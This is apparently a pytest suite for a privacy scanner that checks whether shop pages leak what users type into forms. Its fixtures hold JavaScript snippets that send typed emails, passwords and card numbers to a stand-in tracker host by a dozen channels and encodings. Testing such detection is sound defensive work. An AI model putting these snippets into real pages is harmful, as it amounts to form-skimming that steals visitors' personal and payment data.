"""What pages send of what is typed is found, by whatever way it goes and in whatever disguise; all else is not."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
from collections.abc import Iterator, Mapping
from http.server import BaseHTTPRequestHandler

import pytest

from scanner.model.facts import Page
from scanner.model.vocabulary import GapCause, LeakChannel, LeakTrigger, PageRole, Phase
from scanner.probes.browser.leaks import visit as visiting
from scanner.probes.browser.leaks.rows import proof
from scanner.probes.browser.leaks.visit import Done, Typist
from scanner.probes.browser.session import Browser

from .conftest import Answer, Authority, Serve, Site, authority_in
from .disguises import BINARY, DISGUISES, TOOLS
from .scenes import network_to, one_phase, run
from .standing import Standing, stands

SHOP, TRACKER, FRAMED = "www.muesli.example", "tracker.test", "cdn.example"
HOME = f"https://{SHOP}/"
T = f"https://{TRACKER}"


def socket(handler: BaseHTTPRequestHandler) -> None:
    """RFC 6455, as far as a page that only sends needs it."""
    key = handler.headers["Sec-WebSocket-Key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
    handler.send_response(101)
    for name, value in (
        ("Upgrade", "websocket"),
        ("Connection", "Upgrade"),
        ("Sec-WebSocket-Accept", base64.b64encode(hashlib.sha1(key.encode(), usedforsecurity=False).digest()).decode()),
    ):
        handler.send_header(name, value)
    handler.end_headers()
    while handler.rfile.read(1):
        pass


#: How a page sends a text: in JavaScript, of the disguise's `name` and the data `d`.
TEXT_WAYS: dict[str, tuple[str, LeakChannel]] = {
    "image": ("new Image().src = T + '/image/' + name + '?a=1&x=' + encodeURIComponent(d)", LeakChannel.URL),
    "path": ("fetch(T + '/path/' + name + '/' + encodeURIComponent(d), {mode: 'no-cors'})", LeakChannel.URL),
    "script": ("add('script', {src: T + '/script/' + name + '?x=' + encodeURIComponent(d)})", LeakChannel.URL),
    "style": ("add('link', {rel: 'stylesheet', href: T + '/style/' + name + '?x=' + encodeURIComponent(d)})",
              LeakChannel.URL),
    "events": ("new EventSource(T + '/events/' + name + '?x=' + encodeURIComponent(d))", LeakChannel.URL),
    "ping": ("add('a', {ping: T + '/ping/' + name + '?x=' + encodeURIComponent(d), href: '#here'}).click()",
             LeakChannel.URL),
    "iframe": ("add('iframe', {src: T + '/iframe/' + name + '?x=' + encodeURIComponent(d)})", LeakChannel.FRAME),
    "header": ("fetch('/header/' + name, {headers: {'X-Thing': encodeURIComponent(d)}})", LeakChannel.HEADER),
    "json": ("post('/json/' + name, JSON.stringify({e: [{v: d}]}))", LeakChannel.BODY),
    "form": ("post('/form/' + name, new URLSearchParams({a: '1', x: d}))", LeakChannel.BODY),
    "local": ("localStorage.setItem('/local/' + name, d)", LeakChannel.STORAGE),
    "session": ("sessionStorage.setItem('/session/' + name, d)", LeakChannel.STORAGE),
}  # fmt: skip
#: And how it sends a text or bytes.
WAYS: dict[str, tuple[str, LeakChannel]] = {
    "fetch": ("post('/fetch/' + name, d)", LeakChannel.BODY),
    "xhr": ("const x = new XMLHttpRequest(); x.open('POST', '/xhr/' + name); x.send(d)", LeakChannel.BODY),
    "multipart": ("const m = new FormData(); m.append('a', new Blob([d]), 'f'); post('/multipart/' + name, m)",
                  LeakChannel.BODY),
    "blob": ("post('/blob/' + name, new Blob([d]))", LeakChannel.BODY),
    "beacon": ("navigator.sendBeacon(T + '/beacon/' + name, d)", LeakChannel.BEACON),
    "beacon-blob": ("navigator.sendBeacon(T + '/beacon-blob/' + name, new Blob([d]))", LeakChannel.BEACON),
    "worker": ("worker.postMessage([T + '/worker/' + name, d])", LeakChannel.BODY),
    "worker-blob": ("worker.postMessage([T + '/worker-blob/' + name, new Blob([d])])", LeakChannel.BODY),
    "shared": ("shared.port.postMessage(['/shared/' + name, d])", LeakChannel.BODY),
    "service": ("navigator.serviceWorker.ready.then(r => r.active.postMessage([T + '/service/' + name, d]))",
                LeakChannel.BODY),
    "framed": ("framed.contentWindow.postMessage([T + '/framed/' + name, d], '*')", LeakChannel.BODY),
    "socket": ("socket('/socket', d)", LeakChannel.WEBSOCKET),
    "leaving": ("addEventListener('pagehide', () => navigator.sendBeacon(T + '/leaving/' + name, d))",
                LeakChannel.BEACON),
    "unload": ("addEventListener('unload', () => post('/unload/' + name, d, {keepalive: true}))", LeakChannel.BODY),
}  # fmt: skip
#: What has one address for all.
IN_ONE_PLACE = ("local", "session", "socket")
SENDS = "onmessage = e => fetch(e.data[0], {method: 'POST', mode: 'no-cors', body: e.data[1]});"
COMMON: Mapping[str, Answer] = {
    f"{SHOP}/worker.js": SENDS,
    f"{SHOP}/service.js": SENDS,
    f"{SHOP}/shared.js": f"onconnect = c => {{ c.ports[0].{SENDS} }}",
    f"{FRAMED}/": f"<script>{SENDS}</script>",
}
FORM = "<form action=/sent method=post><label>E-Mail <input type=email name=mail></label></form>"


def sending_page(way: str) -> str:
    """A page that sends what was typed by one way, in every disguise that the way can hold, as the field is left."""
    script, _ = (TEXT_WAYS | WAYS)[way]
    disguises = DISGUISES if way in TEXT_WAYS else DISGUISES | BINARY
    made = ",\n".join(f"{json.dumps(name)}: async v => {code}" for name, (code, _) in disguises.items())
    return f"""<!doctype html><html lang=de><title>shop</title>{FORM}
<iframe id=framed src=https://{FRAMED}/></iframe><script>
{TOOLS}
const T = '{T}', framed = document.getElementById('framed');
const post = (path, body, more) => fetch(T + path, {{method: 'POST', mode: 'no-cors', body, ...more}});
const add = (tag, attributes) => {{
  const made = Object.assign(document.createElement(tag), attributes); document.body.append(made); return made;
}};
const worker = new Worker('/worker.js'), shared = new SharedWorker('/shared.js');
navigator.serviceWorker.register('/service.js');
let opened;
const socket = (path, d) => {{
  opened = opened || new Promise(done => {{
    const s = new WebSocket('wss://{TRACKER}' + path); s.onopen = () => done(s);
  }});
  opened.then(s => s.send(d));
}};
const all = {{{made}}};
const send = (name, d) => {{ {script} }};
document.querySelector('input').addEventListener('blur', async e => {{
  const v = e.target.value;
  for (const [name, make] of Object.entries(all)) send(name, await make(v));
}});
</script></html>"""


async def typed_on(typist: Typist, url: str) -> Done:
    return await typist.at(url, Page(url=url, role=PageRole.CONTACT), PageRole.CONTACT)


@pytest.fixture(autouse=True)
def _patience(monkeypatch: pytest.MonkeyPatch) -> None:
    """As much time for a page as a machine with other work may need."""
    monkeypatch.setattr(visiting, "WAIT_S", 3.0)
    monkeypatch.setattr(visiting, "GONE_S", 1.5)


@pytest.fixture(scope="module")
def standing(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Standing]:
    authority = authority_in(tmp_path_factory.mktemp("authority"))
    with stands(lambda port: network_to(port, SHOP, TRACKER, FRAMED), authority.server, [authority.file]) as one:
        yield one


#: Some at once, each by a visitor of its own: most of the time goes by waiting for what a page may still send.
AT_ONCE = [[*TEXT_WAYS, *WAYS][start::6] for start in range(6)]


@pytest.mark.parametrize("ways", AT_ONCE, ids=",".join)
def test_every_way_and_every_disguise_is_found(ways: list[str], standing: Standing) -> None:
    pages: dict[str, Answer] = {f"{SHOP}/{way}-page": sending_page(way) for way in ways}
    pages |= {**COMMON, f"{TRACKER}/socket": socket}

    async def scene(browser: Browser) -> list[Done]:
        async def by(way: str) -> Done:
            async with browser.phase(Phase.BEFORE_CHOICE) as phase:
                return await typed_on(Typist(phase), f"{HOME}{way}-page")

        return await asyncio.gather(*map(by, ways))

    for way, done in zip(ways, standing(pages, scene), strict=True):
        disguises = DISGUISES if way in TEXT_WAYS else DISGUISES | BINARY
        channel = (TEXT_WAYS | WAYS)[way][1]
        assert {leak.channel for leak in done.leaks} == {channel}, way
        assert {leak.hit.encoding for leak in done.leaks} == {encoding for _, encoding in disguises.values()}, way
        if way in IN_ONE_PLACE:
            continue
        names = (leak.sent.address.partition(f"/{way}/")[2].partition("?")[0] for leak in done.leaks)
        assert {name.partition("/")[0] for name in names} == {*disguises}, way


# -- what gives it away besides ----------------------------------------------------------------------------------------


def test_address_referer_and_cookie_carry_what_was_typed(serve: Serve, authority: Authority) -> None:
    page = f"""<!doctype html><title>shop</title>{FORM}<script>
document.querySelector('input').addEventListener('change', e => {{
  history.replaceState(null, '', '?mail=' + encodeURIComponent(e.target.value));
  document.cookie = 'mail=' + btoa(e.target.value) + ';path=/';
  fetch('{T}/referred', {{mode: 'no-cors', referrerPolicy: 'unsafe-url'}}); fetch('/own');
}});</script>"""

    async def scene() -> None:
        with serve({f"{SHOP}/": page}, authority.server) as site:
            async with one_phase(network_to(site.port, SHOP, TRACKER), [authority.file]) as (_, phase):
                done = await typed_on(Typist(phase), HOME)
        found = {(leak.sent.host, leak.channel, leak.where) for leak in done.leaks}
        assert (SHOP, LeakChannel.ADDRESS, "parameter 'mail' of its URL") in found
        assert (SHOP, LeakChannel.STORAGE) in {place[:2] for place in found}
        assert (TRACKER, LeakChannel.HEADER, "header field 'Referer'") in found
        assert (SHOP, LeakChannel.HEADER, "header field 'Cookie'") in found
        assert {leak.trigger for leak in done.leaks} <= {LeakTrigger.BLUR, LeakTrigger.TIMER}

    run(scene)


TRIGGERS = {
    "typing": ("input", "say(e.target.value)"),
    "blur": ("blur", "say(e.target.value)"),
    "timer": ("focus", "setInterval(() => say(e.target.value), 2600)"),
    "leave": ("focus", "addEventListener('pagehide', () => say(e.target.value))"),
}


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_what_made_it_leave_is_told(trigger: str, serve: Serve, authority: Authority) -> None:
    event, act = TRIGGERS[trigger]
    page = f"""<!doctype html><title>shop</title>{FORM}<script>
const say = v => v && fetch('{T}/', {{method: 'POST', mode: 'no-cors', keepalive: true, body: v}});
document.querySelector('input').addEventListener('{event}', e => {{ {act} }});</script>"""

    async def scene() -> None:
        with serve({f"{SHOP}/": page}, authority.server) as site:
            async with one_phase(network_to(site.port, SHOP, TRACKER), [authority.file]) as (_, phase):
                done = await typed_on(Typist(phase), HOME)
        assert {leak.trigger for leak in done.leaks} == {LeakTrigger(trigger)}

    run(scene)


def test_what_one_page_keeps_and_another_sends_is_told(serve: Serve, authority: Authority) -> None:
    keeps = f"<title>shop</title>{FORM}<script>oninput = e => {{ localStorage.mail = e.target.value }}</script>"
    sends = f"<title>shop</title><input name=q><script>fetch('{T}/?x=' + localStorage.mail).catch(() => 0)</script>"

    async def scene() -> None:
        with serve({f"{SHOP}/": keeps, f"{SHOP}/next": sends}, authority.server) as site:
            async with one_phase(network_to(site.port, SHOP, TRACKER), [authority.file]) as (_, phase):
                typist = Typist(phase)
                first = await typed_on(typist, HOME)
                second = await typed_on(typist, f"{HOME}next")
        assert {leak.channel for leak in first.leaks} == {LeakChannel.STORAGE}
        (leak,) = second.leaks
        assert (leak.sent.host, leak.trigger) == (TRACKER, LeakTrigger.LOAD)

    run(scene)


# -- where it is typed -------------------------------------------------------------------------------------------------

FIELDS = """<!doctype html><title>shop</title>
<form><input type=email name=mail><input type=tel name=phone><input type=password name=pass>
<input name=plz maxlength=5><input name=card autocomplete=cc-number><input name=csc autocomplete=cc-csc>
<input name=iban><input type=number name=number><input type=url name=site><input name=short maxlength=10>
<textarea name=text></textarea><select name=choice><option>a<option>b</select>
<input type=checkbox name=box><input type=submit name=go><input name=off disabled><input name=fixed readonly value=x>
<input name=trap style="display:none"></form>
<div contenteditable=true id=editable></div><div id=shadow></div><iframe srcdoc="<input name=inner>"></iframe>
<iframe src=https://cdn.example/form></iframe>
<script>
shadow.attachShadow({mode: 'open'}).innerHTML = '<input name=deep>';
addEventListener('message', e => tell(e.data));
const tell = said => fetch('https://tracker.test/', {method: 'POST', mode: 'no-cors', body: said});
document.addEventListener('change', e => tell(e.composedPath()[0].name + '=' + e.composedPath()[0].value));
shadow.shadowRoot.addEventListener('change', e => tell('deep=' + e.target.value));
editable.addEventListener('blur', () => tell('editable=' + editable.textContent));
document.querySelector('iframe').onload = e => e.target.contentDocument.addEventListener('change',
  f => tell('inner=' + f.target.value));
</script>"""


def test_everything_that_can_be_typed_into_is(serve: Serve, authority: Authority) -> None:
    framed = """<input name=far><script>onchange = e => fetch('https://tracker.test/', {method: 'POST', mode: 'no-cors',
body: 'far=' + e.target.value})</script>"""
    pages = {f"{SHOP}/": FIELDS, f"{FRAMED}/form": framed}

    async def scene() -> None:
        with serve(pages, authority.server) as site:
            network = network_to(site.port, SHOP, TRACKER, FRAMED)
            async with one_phase(network, [authority.file]) as (_, phase):
                typist = Typist(phase)
                done = await typed_on(typist, HOME)
                texts = [proof(leak, phase.phase, typist.finder, typist.veil) for leak in done.leaks]
        typed = {one.here.name: one for hand in typist.hands for one in hand.typed}
        told = {name for name, one in typed.items() if one.canary.told}
        assert told == {"mail", "phone", "pass", "card", "iban", "number", "site", "short", "text", "editable", "inner",
                        "deep", "far"}  # fmt: skip
        assert typed.keys() - told == {"plz", "csc"}
        assert all(one.taken for one in typed.values())
        assert {leak.typed.here.name for leak in done.leaks} == told
        assert done.cause is None, done.reason
        values = [one.canary.value for one in typed.values() if one.canary.told]
        assert not [text for text in texts for value in values if value.lower() in text.lower()]

    run(scene)


# -- nothing is submitted ----------------------------------------------------------------------------------------------

SUBMITTING = (
    "field.oninput = () => form.submit()",
    "field.onblur = () => form.requestSubmit()",
    "field.onchange = () => fetch('/sent/fetch', {method: 'POST', body: new FormData(form)})",
    "field.onblur = () => navigator.sendBeacon('/sent/beacon', new FormData(form))",
    "field.onblur = () => fetch('/sent/json', {method: 'POST', body: JSON.stringify({mail: field.value})})",
    "field.onblur = () => fetch('/sent/hidden', {method: 'POST', body: btoa(field.value)})",
    "field.onblur = () => fetch('/sent/get?m=' + encodeURIComponent(btoa(field.value)))",
    "field.onblur = () => { location = '/sent/gone?m=' + field.value }",
    "addEventListener('pagehide', () => navigator.sendBeacon('/sent/late', new FormData(form)))",
    "addEventListener('pagehide', () => fetch('/sent/alive', {method: 'POST', keepalive: true, body: field.value}))",
    "addEventListener('beforeunload', () => form.submit())",
    "field.onkeydown = () => document.querySelector('button').focus()",
    "field.onkeyup = e => { form.target = '_blank'; form.submit() }",
    "const x = new XMLHttpRequest(); field.onblur = () => { x.open('POST', '/sent/xhr'); x.send(field.value) }",
)


@pytest.mark.parametrize("part", range(4))
def test_nothing_is_submitted_whatever_the_page_does(part: int, serve: Serve, authority: Authority) -> None:
    scripts = SUBMITTING[part::4]
    pages: dict[str, Answer] = {
        f"{SHOP}/{i}": f"<title>shop</title><form id=form action=/sent/form method={('post', 'get')[i % 2]}>"
        f"<input id=field name=mail type=email><button>Bestellen</button></form><script>{script}</script>"
        for i, script in enumerate(scripts)
    }

    async def scene() -> None:
        with serve(pages, authority.server) as site:
            async with one_phase(network_to(site.port, SHOP), [authority.file]) as (_, phase):
                done = [await typed_on(Typist(phase), f"{HOME}{i}") for i in range(len(scripts))]
            assert heard(site) == []
        # A focus sends nothing, and Chromium takes no submission from a page that is about to be left.
        silent = {i for i, one in enumerate(done) if not one.leaks}
        assert silent == {i for i, script in enumerate(scripts) if "focus()" in script or "beforeunload" in script}

    run(scene)


def heard(site: Site) -> list[str]:
    """What the server was sent of forms."""
    return [path for path in site.paths() if path.startswith("/sent")]


# -- no false alarm ----------------------------------------------------------------------------------------------------

HARMLESS = f"""<!doctype html><title>shop</title><form id=newsletter><input type=email name=mail placeholder=E-Mail>
<input name=phone type=tel value=""><input name=card autocomplete=cc-number placeholder="4111 1111 1111 1111"></form>
<script>
{TOOLS}
const post = body => fetch('{T}/', {{method: 'POST', mode: 'no-cors', body}});
const random = n => hex(crypto.getRandomValues(new Uint8Array(n)));
const all = async e => {{
  const b = crypto.getRandomValues(new Uint8Array(3000));
  post(b); post(btoa(String.fromCharCode(...b))); post(hex(b)); post(await packed('gzip', hex(b)));
  post(new URLSearchParams({{session: random(16), cid: Date.now() + '.' + random(4), form: 'newsletter', field: 'mail',
    length: e.target.value.length, domain: 'example.com', valid: e.target.checkValidity(), event: e.type}}));
  for (const text of ['', 'mail', 'siegel', 'Siegel', 'example.com', '@example.com', 'newsletter', 'null', 'undefined'])
    for (const name of ['SHA-1', 'SHA-256', 'SHA-512']) post(hex(await sha(name, text)));
  post(md5('')); post(md5(random(16))); post('siegel' + random(9)); post('03023125'); post(e.target.placeholder);
  new Image().src = '{T}/pixel?id=' + random(16) + '&h=' + document.documentElement.outerHTML.length;
  localStorage.id = random(20); document.cookie = 'sid=' + random(16);
}};
let keys = 0;
document.addEventListener('input', e => (keys += 1) % 6 || all(e));
document.addEventListener('blur', all, true);
addEventListener('pagehide', () => navigator.sendBeacon('{T}/', random(16)));
</script>"""


def test_what_else_pages_send_is_no_leak(serve: Serve, authority: Authority) -> None:
    async def scene() -> None:
        with serve({f"{SHOP}/": HARMLESS}, authority.server) as site:
            async with one_phase(network_to(site.port, SHOP, TRACKER), [authority.file]) as (_, phase):
                done = await typed_on(Typist(phase), HOME)
            assert TRACKER in {host for host, _, _ in site.heard}
        assert [leak for leak in done.leaks if leak.typed.here.name != "card"] == []
        assert done.fields == 3

    run(scene)


def test_a_page_that_does_not_come_is_a_gap(serve: Serve, authority: Authority) -> None:
    async def scene() -> None:
        with serve({}, authority.server) as site:
            async with one_phase(network_to(site.port, SHOP), [authority.file]) as (_, phase):
                done = await typed_on(Typist(phase), HOME)
        assert done.cause is GapCause.ERROR

    run(scene)
